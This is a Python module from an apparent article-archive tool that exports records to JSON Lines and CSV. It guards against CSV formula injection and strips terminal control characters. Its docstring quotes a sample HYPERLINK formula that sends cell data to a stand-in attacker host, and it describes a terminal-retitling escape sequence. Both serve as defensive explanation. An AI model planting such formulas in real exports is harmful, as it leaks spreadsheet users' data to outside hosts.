"""Data exports: every matching article as JSON Lines or CSV, copies included, streamed.

CSV is opened by spreadsheets, which run a cell that starts with = + - @ (or a tab or carriage return) as a
formula: a hostile headline like `=HYPERLINK("http://evil.example/?"&A1)` would run on the reader's machine.
So, as OWASP recommends for CSV injection, every such text cell is prefixed with a single quote (shown as text,
not run) and every cell is quoted. No export carries a raw terminal control character (a title holding
ESC ] 0 ; … BEL would retitle the window of whoever runs `cat` on the file): JSON escapes them, CSV drops them.
"""

from __future__ import annotations

import csv
import re
from typing import Any, Iterable, Iterator, TextIO

import sqlite_utils

from crosswire.exports.common import json_dumps
from crosswire.exports.selection import Selection
from crosswire.storage.export import EXPORT_FIELDS, iter_articles
from crosswire.storage.search import iter_matching

DATA_FORMATS = ("jsonl", "csv")
# CSV has no lists: authors and keywords are joined with this, which names and keywords practically never hold.
CSV_LIST_SEPARATOR = "; "
# What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Control characters other than tab, newline and return: never text, only ever a terminal's instructions.
_CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell that a spreadsheet shows and never runs, and a terminal never obeys: control
    characters dropped, then text starting like a formula gets a leading single quote; numbers and empty cells
    stay as they are."""
    if not isinstance(value, str):
        return value
    value = _CONTROLS.sub("", value)
    return "'" + value if value.startswith(FORMULA_START) else value


def data_records(db: sqlite_utils.Database, selection: Selection | None,
                 limit: int | None = None) -> Iterator[dict[str, Any]]:
    """Every article of the selection, copies included: the whole archive oldest id first without one,
    else the matches newest first."""
    if selection is None or selection.query is None or selection.query.is_empty:
        records = iter_articles(db, order_by="id")
        return records if limit is None else (record for record, _ in zip(records, range(limit)))
    return iter_matching(db, selection.query, sort="date", limit=limit, all_copies=True)


def write_jsonl(records: Iterator[dict[str, Any]], out: TextIO) -> int:
    """Write one JSON object per line; return how many."""
    count = 0
    for record in records:
        out.write(json_dumps(record) + "\n")
        count += 1
    return count


def write_csv(records: Iterable[dict[str, Any]], out: TextIO) -> int:
    """Write a header and one CSV row per record (lists joined with "; "), every cell quoted and no cell a
    formula (see csv_cell); return how many rows."""
    writer = csv.DictWriter(out, fieldnames=EXPORT_FIELDS, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writeheader()
    count = 0
    for record in records:
        row = dict(record)
        for key in ("authors", "keywords"):
            row[key] = CSV_LIST_SEPARATOR.join(row.get(key) or [])
        writer.writerow({key: csv_cell(row.get(key)) for key in EXPORT_FIELDS})
        count += 1
    return count
